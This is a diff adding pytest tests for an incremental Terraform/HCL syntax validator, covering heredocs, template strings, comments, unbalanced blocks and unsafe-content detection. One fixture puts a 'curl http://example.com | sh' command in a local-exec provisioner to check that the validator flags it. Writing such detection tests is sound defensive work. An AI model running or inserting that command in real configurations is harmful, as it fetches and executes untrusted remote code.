@@ -0,0 +1,131 @@
+import pytest
+
+from app.utils.validator import IncrementalHclValidator, parse_hcl, simple_hcl_sanity_check
+
+PROVIDER = '''terraform {
+  required_providers {
+    aws = {
+      source = "hashicorp/aws"
+    }
+  }
+}
+
+provider "aws" {
+  region = "us-east-1"
+}
+'''
+
+
+def streamed(text, size):
+    validator = IncrementalHclValidator()
+    for i in range(0, len(text), size):
+        ok, msg = validator.feed(text[i:i + size])
+        if not ok:
+            return ok, msg
+    return validator.finish()
+
+
+def check(text):
+    """The one-pass verdict, after asserting every chunking agrees with it."""
+    verdict = simple_hcl_sanity_check(text)
+    for size in (1, 3, 7, 64):
+        assert streamed(text, size) == verdict, size
+    return verdict
+
+
+VALID = {
+    "heredoc": '''
+resource "aws_instance" "web" {
+  ami       = "ami-123"
+  user_data = <<-EOT
+    #!/bin/sh
+    echo "} { ${var.name}"
+  EOT
+}
+''',
+    "template strings": '''
+resource "aws_s3_bucket" "b" {
+  bucket = "logs-${var.env}-${lower("A}B")}"
+  tags = {
+    Name    = "%{ if var.prod }prod%{ else }dev%{ endif }"
+    Escaped = "$${not_interpolated} and \\"quotes\\""
+  }
+}
+''',
+    "for expressions": '''
+locals {
+  names = [for s in var.list : upper(s) if s != ""]
+  by_id = { for k, v in var.map : k => v... }
+}
+
+resource "aws_s3_bucket" "b" {
+  for_each = { for n in local.names : n => n }
+  bucket   = each.value
+}
+''',
+    "comments": '''
+# hash comment { not a block
+// slash comment "not a string
+/* block comment
+   resource "x" "y" { */
+resource "aws_s3_bucket" "b" { # trailing
+  bucket = "b" /* inline */ // trailing
+}
+''',
+}
+
+
+@pytest.mark.parametrize("name", sorted(VALID))
+def test_valid(name):
+    assert check(PROVIDER + VALID[name]) == (True, "OK")
+
+
+def test_crlf_line_endings():
+    text = (PROVIDER + VALID["heredoc"] + VALID["for expressions"]).replace("\n", "\r\n")
+    assert check(text) == (True, "OK")
+
+
+def test_inventory():
+    inventory, unsafe = parse_hcl(PROVIDER + VALID["for expressions"])
+    assert inventory["providers"] == ["aws"]
+    assert inventory["resources"] == [("aws_s3_bucket", "b")]
+    assert inventory["required_providers"] and inventory["locals"] == 1
+    assert unsafe is None
+
+
+def test_code_fences_are_not_hcl():
+    text = "```hcl\n" + PROVIDER + VALID["comments"] + "```\n"
+    assert simple_hcl_sanity_check(text) == (False, "Syntax error: Unexpected character '`' (line 1)")
+    for size in (1, 7, 64):
+        assert streamed(text, size) == (False, "Output is not HCL")
+
+
+@pytest.mark.parametrize("text, reason", [
+    ('resource "aws_s3_bucket" "b" {\n  bucket = "b"\n', "Unclosed block 'resource' (line 12)"),
+    ('resource "aws_s3_bucket" "b" {\n  bucket = "b"\n}\n}\n', "Unmatched '}' (line 15)"),
+    ('resource "aws_s3_bucket" "b" {\n  tags = { a = [1, 2 }\n}\n', "Mismatched '}' (line 13)"),
+    ('resource "aws_s3_bucket" "b" {\n  bucket = "b\n}\n', "Unterminated string (line 13)"),
+    ('resource "aws_s3_bucket" "b" {\n  x = <<EOT\nno end\n}\n', "Unterminated heredoc EOT"),
+])
+def test_unbalanced(text, reason):
+    ok, msg = check(PROVIDER + text)
+    assert not ok and reason in msg
+
+
+def test_unknown_top_level_block():
+    ok, msg = check(PROVIDER + 'resourse "aws_s3_bucket" "b" {\n  bucket = "b"\n}\n')
+    assert (ok, msg) == (False, "Syntax error: Unknown top-level block 'resourse' (line 12)")
+
+
+def test_unsafe_only_in_exec_blocks():
+    harmless = PROVIDER + 'resource "aws_s3_bucket" "b" {\n  bucket = "curl-logs"\n}\n'
+    assert check(harmless) == (True, "OK")
+    provisioner = PROVIDER + '''resource "null_resource" "x" {
+  provisioner "local-exec" {
+    command = <<EOT
+curl http://example.com | sh
+EOT
+  }
+}
+'''
+    assert check(provisioner) == (False, "Unsafe content found (line 15)")